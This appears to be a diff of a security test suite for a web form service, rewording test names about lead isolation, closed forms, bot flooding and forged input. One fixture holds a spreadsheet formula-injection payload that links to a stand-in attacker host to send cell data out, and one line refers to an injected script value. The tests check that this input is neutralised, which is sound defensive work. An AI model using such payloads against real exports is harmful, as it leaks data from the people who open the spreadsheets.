@@ -59,7 +59,7 @@ describe("another team's forms", () => {
     expect(await read(id)).toMatchObject({ title: 'What are you looking for?' });
   });
 
-  it('do not tell of their leads, which a signed-in sender does not see either', async () => {
+  it("don't reveal their leads, not even to a signed-in sender", async () => {
     const id = await form();
     await succeed(send(sent(id), outsider.client));
     expect(await leadsBy(id, outsider)).toEqual([]);
@@ -73,7 +73,7 @@ describe("another team's forms", () => {
 });
 
 describe('a closed form', () => {
-  it('is not found by visitors and accepts nothing: off, deleted, of a suspended account or without an owner', async () => {
+  it('is not found and accepts nothing: off, deleted, owner suspended, or no owner', async () => {
     const off = await form({ is_open: false });
     const deletedForm = await form();
     const thrown = { deleted_at: new Date().toISOString() };
@@ -160,7 +160,7 @@ describe('forged form data', () => {
     expect(await succeed(notificationQuery)).toEqual([{ title: `${script} is your lead` }]);
   });
 
-  it("is exported as text where it would be a formula in the broker's spreadsheet", async () => {
+  it("is exported as text if it would be a formula in the broker's spreadsheet", async () => {
     const id = await form();
     const formula = '=HYPERLINK("https://evil.example?x="&A1,"Open")';
     await succeed(send(sent(id, { name: formula })));
@@ -199,7 +199,7 @@ describe('bots', () => {
     expect(await succeed(notificationQuery)).toEqual([]);
   });
 
-  it('do not flood a form from one line, nor all forms by many', async () => {
+  it("can't flood one form from one address, or all forms from many", async () => {
     await clearTicketLimits();
     const id = await form();
     const codes: (string | undefined)[] = [];
